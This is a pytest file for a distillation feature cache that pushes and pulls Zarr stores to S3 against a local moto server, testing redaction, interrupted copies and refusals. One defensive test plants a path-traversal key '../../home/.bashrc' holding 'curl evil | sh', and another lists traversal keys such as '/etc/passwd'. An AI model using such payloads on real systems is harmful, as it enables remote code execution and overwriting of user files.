"""Stores on object storage, against a real S3 API: moto's S3 server on loopback, tiny data.

Write straight to s3://, add a teacher to a store there, push, pull (byte-for-byte), an interrupted push that
must not look complete, and a student trained from s3:// directly."""

from __future__ import annotations

import json
import logging

import numpy as np
import pytest
import zarr

from customkd.common.errors import UserError
from customkd.contract import location as where
from customkd.contract import store as fs
from customkd.contract.fingerprint import component_hash
from customkd.featcache import remote
from tests.conftest import TINY_TEACHER, invoke, one_error_line, store_bytes, tiny_config

BUCKET = "customkd-test"


@pytest.fixture(scope="module")
def s3_server():
    """moto's S3 API in a thread on 127.0.0.1, on a free port; one per module, tests use their own prefixes."""
    from moto.server import ThreadedMotoServer

    logging.getLogger("werkzeug").setLevel(logging.ERROR)  # one access-log line per request otherwise
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    yield f"http://{host}:{port}"
    server.stop()


@pytest.fixture
def s3(s3_server, monkeypatch, request) -> str:
    """Environment as a user would set it, a bucket, and a fresh ``s3://bucket/<test name>`` prefix."""
    for name, value in {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
                        "AWS_DEFAULT_REGION": "us-east-1", "CUSTOMKD_S3_ENDPOINT": s3_server,
                        "AWS_CONFIG_FILE": "/nonexistent", "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent"}.items():
        monkeypatch.setenv(name, value)
    for name in ("AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3", "AWS_PROFILE", "AWS_SESSION_TOKEN",
                 where.OPTIONS_VARIABLE):
        monkeypatch.delenv(name, raising=False)
    s3fs, _ = where.filesystem(f"s3://{BUCKET}")
    if not s3fs.exists(BUCKET):
        s3fs.mkdir(BUCKET)
    return f"s3://{BUCKET}/{request.node.name}"


def _arrays(location) -> dict[str, np.ndarray]:
    group = fs.open_complete_store(location)
    return {name: np.asarray(group[name][:]) for name in group.array_keys()}


def test_redact_and_options(monkeypatch):
    assert where.redact("s3://AKIAEXAMPLE:wJalr/XUt@bucket/c.zarr") == "s3://***@bucket/c.zarr"
    assert (where.redact("https://h/c.zarr?versionId=3&X-Amz-Signature=abc&X-Amz-Security-Token=t")
            == "https://h/c.zarr?versionId=3&X-Amz-Signature=***&X-Amz-Security-Token=***")
    assert where.redact("cannot read gs://user:pw@b/c.zarr/zarr.json") == "cannot read gs://***@b/c.zarr/zarr.json"
    assert where.redact("s3://bucket/c.zarr") == "s3://bucket/c.zarr"
    assert where.is_url("s3://b/c.zarr") and where.is_url("file:///tmp/c.zarr") and not where.is_url("caches/c.zarr")
    assert not where.is_remote("file:///tmp/c.zarr") and where.to_local("file:///tmp/c.zarr") == "/tmp/c.zarr"
    for name in (*where.S3_ENDPOINT_VARIABLES, where.OPTIONS_VARIABLE):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://generic:1")
    assert where.storage_options_from_env("s3://b/c")["endpoint_url"] == "http://generic:1"
    monkeypatch.setenv("CUSTOMKD_S3_ENDPOINT", "http://ours:2")
    assert where.storage_options_from_env("s3://b/c")["endpoint_url"] == "http://ours:2"
    assert "endpoint_url" not in where.storage_options_from_env("gs://b/c")
    with pytest.raises(UserError) as refused:  # never reaches the network, never echoes the secret
        fs.open_complete_store("s3://AKIAEXAMPLE:topsecret@bucket/c.zarr")
    assert "topsecret" not in str(refused.value) and "AWS_SECRET_ACCESS_KEY" in str(refused.value)


def test_extract_straight_to_s3(tiny_folder, tiny_store, s3):
    from customkd.featcache.cache_ops import store_info, verify_store
    from customkd.featcache.extract import ExtractConfig, extract

    cfg = ExtractConfig(teacher=TINY_TEACHER, data=f"folder:{tiny_folder}", out=f"{s3}/c.zarr", views=3,
                        weights="random", workers=0, shard_size=8, chunk_size=4)
    assert extract(cfg).status == "complete"
    assert extract(cfg).status == "unchanged"
    reference = _arrays(tiny_store)
    for name, values in _arrays(cfg.out).items():
        np.testing.assert_array_equal(values, reference[name], err_msg=name)
    assert store_info(cfg.out)["shards_done"] == "4/4" and verify_store(cfg.out) == []
    with pytest.raises(UserError, match="different augmentation"):
        extract(ExtractConfig(**{**cfg.__dict__, "views": 2}))
    replaced = extract(ExtractConfig(**{**cfg.__dict__, "views": 2, "overwrite": True}))  # fs.rm on the bucket
    assert replaced.status == "complete" and fs.open_complete_store(cfg.out)["features_t0"].shape == (30, 2, 64)


def test_push_then_pull_is_byte_identical(tiny_store, s3, tmp_path):
    url = f"{s3}/c.zarr"
    pushed = invoke("cache", "push", str(tiny_store), url)
    assert pushed.exit_code == 0 and "fingerprint verified" in pushed.stdout, pushed.output
    again = remote.push(tiny_store, url)
    assert again.status == "unchanged" and again.objects_copied == 0
    result = remote.pull(url, tmp_path / "pulled.zarr")
    assert result.status == "copied" and result.objects_skipped == 0
    original, pulled = store_bytes(tiny_store, manifest=True), store_bytes(tmp_path / "pulled.zarr", manifest=True)
    assert pulled.keys() == original.keys()
    assert all(pulled[key] == original[key] for key in original)  # every object, byte for byte
    reference = _arrays(tiny_store)
    for name, values in _arrays(tmp_path / "pulled.zarr").items():
        np.testing.assert_array_equal(values, reference[name], err_msg=name)


def test_a_store_with_two_teachers_round_trips_and_a_push_adds_a_new_teacher(tiny_store, s3, tmp_path):
    """Push the one-teacher store, add a teacher locally, push again: only the new teacher's objects and the root
    travel; a pull of the result is the two-teacher store byte for byte."""
    import shutil

    from customkd.featcache.extract import ExtractConfig, extract

    url, local = f"{s3}/c.zarr", tmp_path / "two.zarr"
    shutil.copytree(tiny_store, local)
    remote.push(local, url)
    extract(ExtractConfig(teacher="timm:test_efficientnet", into=str(local), weights="random", workers=0,
                          teacher_size=32))
    again = remote.push(local, url)
    added = {key for key in store_bytes(local) if key.split("/", 1)[0] in ("features_t1", "teacher_done_t1")}
    assert again.status == "copied" and again.objects_copied == len(added) + 1  # and the root zarr.json
    remote.pull(url, tmp_path / "pulled.zarr")
    assert store_bytes(tmp_path / "pulled.zarr", manifest=True) == store_bytes(local, manifest=True)
    assert fs.read_manifest(fs.open_complete_store(url), url).teacher_names == (TINY_TEACHER, "timm:test_efficientnet")
    assert remote.push(local, url).status == "unchanged"


def test_interrupted_copies_are_never_complete_and_resume(tiny_store, s3, monkeypatch, tmp_path):
    url = f"{s3}/c.zarr"

    def killed(*args, **kwargs):
        raise KeyboardInterrupt  # the process dies after the data objects, before the root zarr.json

    with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
        patch.setattr(remote, "_write_last", killed)
        remote.push(tiny_store, url)
    assert where.exists(url, "features_t0/zarr.json") and not fs.store_exists(url)
    with pytest.raises(UserError, match="incomplete"):
        fs.open_complete_store(url)
    resumed = remote.push(tiny_store, url)
    n_objects = len(store_bytes(tiny_store, manifest=True))
    assert resumed.objects_copied == 1 and resumed.objects_skipped == n_objects - 1  # only the root was missing
    assert fs.read_manifest(fs.open_complete_store(url)).status == fs.STATUS_COMPLETE
    assert not where.exists(url, where.COPY_MARKER)

    local = tmp_path / "pulled.zarr"
    with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
        patch.setattr(remote, "_write_last", killed)
        remote.pull(url, local)
    with pytest.raises(UserError, match="incomplete"):
        fs.open_complete_store(local)
    assert remote.pull(url, local).objects_copied == 1


def test_refusals(tiny_store, s3, tmp_path):
    import shutil

    half = tmp_path / "half.zarr"
    shutil.copytree(tiny_store, half)
    fs.set_status(zarr.open_group(str(half), mode="r+"), fs.STATUS_IN_PROGRESS)
    with pytest.raises(UserError, match="incomplete"):
        remote.push(half, f"{s3}/half.zarr")
    assert not where.is_occupied(f"{s3}/half.zarr")

    url = f"{s3}/c.zarr"
    remote.push(tiny_store, url)
    group = zarr.open_group(store=where.zarr_store(url, read_only=False), mode="r+")
    manifest = fs.read_attrs(group)
    teacher = {**manifest["teachers"][0]["fingerprint"], "weights_hash": "0" * 16}  # the same teacher, other weights
    teacher["hash"] = component_hash({k: v for k, v in teacher.items() if k != "hash"})
    manifest["teachers"][0]["fingerprint"] = teacher
    group.attrs[fs.ATTRS_KEY] = manifest
    with pytest.raises(UserError, match=f"teacher {TINY_TEACHER} with another fingerprint"):
        remote.push(tiny_store, url)

    s3fs, root = where.filesystem(f"{s3}/mine")
    s3fs.pipe_file(f"{root}/notes.txt", b"keep me")
    with pytest.raises(UserError, match="not a customkd store"):
        remote.push(tiny_store, f"{s3}/mine")
    assert s3fs.cat_file(f"{root}/notes.txt") == b"keep me"


def test_cli_errors_are_one_line(tiny_store, s3, tmp_path):
    cases = [
        (("cache", "push", str(tiny_store), "s3://no-such-bucket/c.zarr"), "bucket does not exist"),
        (("cache", "pull", f"{s3}/absent.zarr", str(tmp_path / "p.zarr")), "does not exist"),
        (("cache", "info", "s3://AKIAEXAMPLE:topsecret@bucket/c.zarr"), "credentials in the URL"),
        (("cache", "push", str(tiny_store), "nosuchscheme://b/c.zarr"), "Protocol not known"),
    ]
    for args, needle in cases:
        result = invoke(*args)
        assert result.exit_code == 2, result.output
        lines = result.output.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: ") and needle in lines[0], result.output
        assert "topsecret" not in result.output


def test_distill_from_s3(tiny_store, s3, tmp_path):
    from customkd.trainer.distill import distill

    url = f"{s3}/c.zarr"
    remote.push(tiny_store, url)
    result = distill(tiny_config(url, tmp_path / "run", epochs=1))
    local = distill(tiny_config(tiny_store, tmp_path / "local", epochs=1))
    assert result.final == local.final  # the same features, read over S3: the same student
    assert (tmp_path / "run" / "student.safetensors").read_bytes() == (tmp_path / "local" / "student.safetensors").read_bytes()
    config = json.loads((tmp_path / "run" / "config.json").read_text())
    attrs = fs.read_attrs(fs.open_store(tiny_store))
    assert config["cache"] == url and config["store_fingerprint"] == {
        **{name: part["hash"] for name, part in attrs["fingerprint"].items()},
        "teacher": attrs["teachers"][0]["fingerprint"]["hash"]}


def test_pull_refuses_a_key_escaping_the_destination(tiny_store, s3, tmp_path):
    """A bucket whose store holds the key ``c.zarr/../../home/.bashrc``: pull names it and writes nothing."""
    url = f"{s3}/c.zarr"
    remote.push(tiny_store, url)
    s3fs, root = where.filesystem(url)
    s3fs.pipe_file(f"{root}/../../home/.bashrc", b"curl evil | sh")
    dest = tmp_path / "caches" / "pulled.zarr"
    one_error_line(invoke("cache", "pull", url, dest), "../../home/.bashrc")
    assert not dest.exists() and not (tmp_path / "home").exists()  # nothing written, inside or outside


def test_pull_refuses_a_destination_inside_a_store(tiny_store, s3, tmp_path):
    url = f"{s3}/c.zarr"
    remote.push(tiny_store, url)
    before = store_bytes(tiny_store, manifest=True)
    one_error_line(invoke("cache", "pull", url, tiny_store / "pulled.zarr"), "inside the Zarr store")
    assert store_bytes(tiny_store, manifest=True) == before


def test_contained_key(tmp_path):
    dest = tmp_path / "dest.zarr"
    (dest / "labels").mkdir(parents=True)
    (dest / "features").symlink_to(tmp_path)  # a link left in a destination leads out of it
    assert where.contained_key(dest, "labels/c/0") and where.contained_key("s3://b/c.zarr", "labels/c/0")
    for key in ("../x", "a/../../x", "/etc/passwd", "", "a//b", "./a", "a\\..\\..\\x", "a\x00b", "features/c/0"):
        assert not where.contained_key(dest, key), key
    assert not where.contained_key("s3://b/c.zarr", "../x")


def test_pull_refuses_an_object_larger_than_the_manifest_allows(tiny_store, s3, tmp_path):
    """A chunk object far larger than its shard can be is refused before it is read."""
    url = f"{s3}/c.zarr"
    remote.push(tiny_store, url)
    s3fs, root = where.filesystem(url)
    s3fs.pipe_file(f"{root}/labels/c/0", bytes(2**21))
    dest = tmp_path / "pulled.zarr"
    one_error_line(invoke("cache", "pull", url, dest), "labels/c/0")
    assert not dest.exists()


def test_pull_streams_large_objects_and_refuses_one_that_grew(tiny_store, s3, tmp_path, monkeypatch):
    """With batches of 512 bytes every shard of features streams in pieces and arrives byte for byte; an object
    holding more than its listing said (it grew after the listing) is refused, streamed or batched."""
    url = f"{s3}/c.zarr"
    remote.push(tiny_store, url)
    monkeypatch.setattr(remote, "COPY_BATCH_BYTES", 512)
    remote.pull(url, tmp_path / "pulled.zarr")
    assert store_bytes(tmp_path / "pulled.zarr", manifest=True) == store_bytes(tiny_store, manifest=True)

    sizes = where.list_objects(url)
    listed = where.objects_under
    largest = max((key for key in sizes if key != "zarr.json"), key=sizes.get)
    assert sizes[largest] > 512 and sizes["labels/c/0"] < 512
    for key in (largest, "labels/c/0", "zarr.json"):  # streamed, batched, the root manifest

        def understated(filesys, root, key=key):
            objects = listed(filesys, root)
            if root.startswith(BUCKET):  # the source's listing, not the destination's
                objects[key] -= 1
            return objects

        monkeypatch.setattr(remote, "objects_under", understated)
        with pytest.raises(UserError, match=f"object {key} of .* is not the {sizes[key] - 1} bytes its listing"):
            remote.pull(url, tmp_path / f"grew-{key.replace('/', '-')}.zarr")


def test_overwrite_on_s3_deletes_only_store_objects(tiny_folder, s3):
    from customkd.featcache.extract import ExtractConfig, extract

    cfg = ExtractConfig(teacher=TINY_TEACHER, data=f"folder:{tiny_folder}", out=f"{s3}/c.zarr", views=2,
                        weights="random", workers=0, shard_size=8, chunk_size=4)
    extract(cfg)
    s3fs, root = where.filesystem(cfg.out)
    s3fs.pipe_file(f"{root}/features/notes.txt", b"keep me")
    before = where.list_objects(cfg.out)
    with pytest.raises(UserError, match="holds features/notes.txt, which is not part of a customkd store"):
        extract(ExtractConfig(**{**cfg.__dict__, "views": 3, "overwrite": True}))
    assert where.list_objects(cfg.out) == before


def test_a_teacher_is_added_to_a_store_on_s3(tiny_store, s3, tmp_path):
    """``extract --teacher B --into s3://…`` through the CLI: the views (and the rest of the view set, and the first
    teacher) stay byte for byte, B's features are those of the same addition on a local copy, verify passes."""
    import shutil

    from customkd.featcache.cache_ops import verify_store

    url = f"{s3}/c.zarr"
    remote.push(tiny_store, url)
    filesys, root = where.filesystem(url)
    before = {key: filesys.cat_file(f"{root}/{key}") for key in where.list_objects(url) if key != "zarr.json"}
    added = invoke("extract", "--teacher", "timm:test_efficientnet", "--into", url, "--weights", "random",
                   "--workers", "0", "--teacher-size", "32")
    assert added.exit_code == 0 and "teacher timm:test_efficientnet" in added.stdout, added.output
    after = {key: filesys.cat_file(f"{root}/{key}") for key in where.list_objects(url)}
    assert all(after[key] == before[key] for key in before)  # views, listing and teacher 0, object for object
    assert any(key.startswith("views/") for key in before)
    assert verify_store(url) == []
    assert fs.read_manifest(fs.open_complete_store(url), url).teacher_names == (TINY_TEACHER, "timm:test_efficientnet")
    local = tmp_path / "local.zarr"
    shutil.copytree(tiny_store, local)
    invoke("extract", "--teacher", "timm:test_efficientnet", "--into", local, "--weights", "random", "--workers", "0",
           "--teacher-size", "32")
    np.testing.assert_array_equal(_arrays(url)["features_t1"], _arrays(local)["features_t1"])
    checked = invoke("cache", "verify", url)
    assert checked.exit_code == 0, checked.output
    assert invoke("extract", "--teacher", "timm:test_efficientnet", "--into", url, "--weights", "random",
                  "--workers", "0", "--teacher-size", "32").exit_code == 0  # again: nothing to do
